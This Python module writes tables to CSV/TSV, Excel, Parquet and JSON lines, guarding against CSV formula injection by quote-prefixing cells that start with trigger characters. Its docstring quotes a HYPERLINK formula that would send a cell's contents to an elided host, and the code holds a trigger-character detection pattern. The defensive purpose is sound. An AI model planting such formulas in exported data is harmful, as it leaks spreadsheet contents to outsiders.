"""Write tables: CSV/TSV with a formula guard, Excel with text kept as text, Parquet,
JSON lines.

Formula guard (OWASP, "CSV Injection"): a spreadsheet that opens a CSV file evaluates a
cell starting with ``=``, ``+``, ``-`` or ``@`` (and some programs one starting with a
tab or a carriage return) as a formula, so a released cell such as
``=HYPERLINK("http://…?"&A2, "click")`` runs in the reader's spreadsheet. OWASP's rule:
prefix such a text cell with a single quote, which spreadsheets show as text.
:func:`guard_formulas` applies it to every text cell and column name, except

- cells of numeric columns, which are numbers and stay numbers, and
- text that is a plain number (``-2``, ``+3.5``, ``1e-3``), which no spreadsheet
  evaluates as a formula.

Cells that already start with quotes before such a character get one more quote, so
:func:`unguard_formulas` (removing one leading quote from cells that start with quotes
and one of these characters) gives back exactly the cells that were guarded; privcore's
loader applies it to CSV/TSV, so a release written by privcore reads as it was.

Every CSV or TSV the product writes goes through :func:`guard_formulas`: :func:`save`,
:func:`to_csv_bytes` (page downloads) and the history export. In an .xlsx file a text
cell is stored as text, which Excel never evaluates: :func:`save` marks text starting
with ``=`` (openpyxl would write it as a formula) or equal to an error value (``#N/A``)
as text instead of prefixing it.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd

from privcore.errors import DataFormatError

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_TRIGGER_START = r"'*[=+\-@\t\r]"
_GUARDED_START = r"'+[=+\-@\t\r]"
_PLAIN_NUMBER = r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?"


@dataclass(frozen=True)
class SavedTable:
    """A table written by :func:`save`: where, and how many cells the formula guard
    prefixed (0 for formats other than CSV/TSV, or with the guard off)."""

    path: Path
    guarded_cells: int


def guard_formulas(frame: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """``frame`` with text cells and column names that a spreadsheet would read as a
    formula prefixed with ``'`` (see the module docstring), and how many were changed.

    Numeric, boolean and date columns are untouched; ``frame`` itself is not changed.
    """
    guarded = frame.copy(deep=False)
    changed = 0
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not _is_text(column):
            continue
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        hits = _starts_like_formula(column)
        count = int(hits.sum())
        if count:
            column = column.copy()
            column[hits] = "'" + column[hits].astype(str)
            guarded.isetitem(position, column)
            changed += count
    original = list(frame.columns)
    names = [_guard_text(name) if isinstance(name, str) else name for name in original]
    renamed = sum(new != old for new, old in zip(names, original, strict=True))
    if renamed:
        guarded.columns = names
    return guarded, changed + renamed


def unguard_formulas(frame: pd.DataFrame) -> int:
    """Remove the formula guard's quote from the text cells of ``frame`` (in place):
    one leading ``'`` of a cell that starts with quotes and ``=``, ``+``, ``-``, ``@``,
    tab or carriage return. Returns the number of cells changed."""
    changed = 0
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if not _is_text(column) or isinstance(column.dtype, pd.CategoricalDtype):
            continue
        quoted = _str_test(column, "startswith", "'")
        if not quoted.any():
            continue
        hits = quoted & _str_test(column, "match", _GUARDED_START)
        count = int(hits.sum())
        if count:
            column = column.copy()
            column[hits] = column[hits].str.slice(1)
            frame.isetitem(position, column)
            changed += count
    return changed


def to_csv_bytes(frame: pd.DataFrame, *, sep: str = ",", formula_guard: bool = True) -> bytes:
    """``frame`` as UTF-8 CSV (or TSV with ``sep="\\t"``), formula-guarded unless told
    otherwise: what the pages offer for download."""
    if formula_guard:
        frame, _ = guard_formulas(frame)
    return frame.to_csv(index=False, sep=sep).encode("utf-8")


def save(frame: pd.DataFrame, path: str | Path, *, formula_guard: bool = True) -> SavedTable:
    """Write a table in the format its extension names: .csv (UTF-8), .tsv, .xlsx,
    .parquet or .jsonl; anything else is written as CSV. CSV and TSV are
    formula-guarded (:func:`guard_formulas`) unless ``formula_guard`` is False; in
    .xlsx, text is always stored as text."""
    path = Path(path)
    suffix = path.suffix.lower()
    if path.is_dir():
        raise DataFormatError(
            f"Cannot write {path}: it is a folder. Give a file name.",
            code="data.cannot_write",
            path=str(path),
        )
    guarded = 0
    try:
        if suffix == ".xlsx":
            _write_xlsx(frame, path)
        elif suffix in (".parquet", ".pq"):
            frame.to_parquet(path, index=False)
        elif suffix in (".jsonl", ".ndjson"):
            frame.to_json(path, orient="records", lines=True, force_ascii=False)
        else:
            if formula_guard:
                frame, guarded = guard_formulas(frame)
            frame.to_csv(path, sep="\t" if suffix == ".tsv" else ",", index=False)
    except OSError as exc:
        raise DataFormatError(
            f"Cannot write {path}: {exc.strerror or exc}.", code="data.cannot_write", path=str(path)
        ) from exc
    return SavedTable(path, guarded)


def _write_xlsx(frame: pd.DataFrame, path: Path) -> None:
    """One sheet, column names in the first row, missing cells empty; text that openpyxl
    would store as a formula (``=…``) or an error value (``#N/A``) stored as text."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES
    from openpyxl.utils.exceptions import IllegalCharacterError

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet1")

    def text_cell(value: str) -> WriteOnlyCell:
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell

    special_columns = {}
    for position in range(frame.shape[1]):
        column = frame.iloc[:, position]
        if _is_text(column):
            mask = _str_test(column, "startswith", "=") | column.isin(ERROR_CODES).to_numpy()
            if mask.any():
                special_columns[position] = mask
    special_rows = np.zeros(len(frame), dtype=bool)
    for mask in special_columns.values():
        special_rows |= mask
    values = frame.astype(object).where(frame.notna(), None)
    try:
        sheet.append([text_cell(str(name)) for name in frame.columns])
        for index, row in enumerate(values.itertuples(index=False, name=None)):
            if special_rows[index]:
                row = list(row)
                for position, mask in special_columns.items():
                    if mask[index]:
                        row[position] = text_cell(row[position])
            sheet.append(row)
        workbook.save(path)
    except IllegalCharacterError as exc:
        raise DataFormatError(
            f"Cannot write {path}: a cell holds a control character, which Excel files "
            "cannot store. Save the table as CSV or Parquet instead.",
            code="data.cannot_write",
            path=str(path),
        ) from exc


def _is_text(column: pd.Series) -> bool:
    dtype = column.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        return not pd.api.types.is_numeric_dtype(dtype.categories.dtype)
    return not (
        pd.api.types.is_numeric_dtype(dtype)
        or pd.api.types.is_bool_dtype(dtype)
        or pd.api.types.is_datetime64_any_dtype(dtype)
        or isinstance(dtype, pd.PeriodDtype | pd.IntervalDtype)
        or pd.api.types.is_timedelta64_dtype(dtype)
    )


def _str_test(column: pd.Series, method: str, argument: str) -> np.ndarray:
    """A boolean array: ``column.str.<method>(argument)`` for text cells, False for
    missing and non-text cells (an object column may mix numbers and text)."""
    try:
        result = getattr(column.str, method)(argument, na=False)
    except AttributeError:  # an object column without any text
        return np.zeros(len(column), dtype=bool)
    return result.to_numpy(dtype=bool, na_value=False)


def _starts_like_formula(column: pd.Series) -> np.ndarray:
    starts = _str_test(column, "match", _TRIGGER_START)
    if not starts.any():
        return starts
    return starts & ~_str_test(column, "fullmatch", _PLAIN_NUMBER)


def _guard_text(text: str) -> str:
    series = pd.Series([text], dtype=object)
    return "'" + text if _starts_like_formula(series)[0] else text
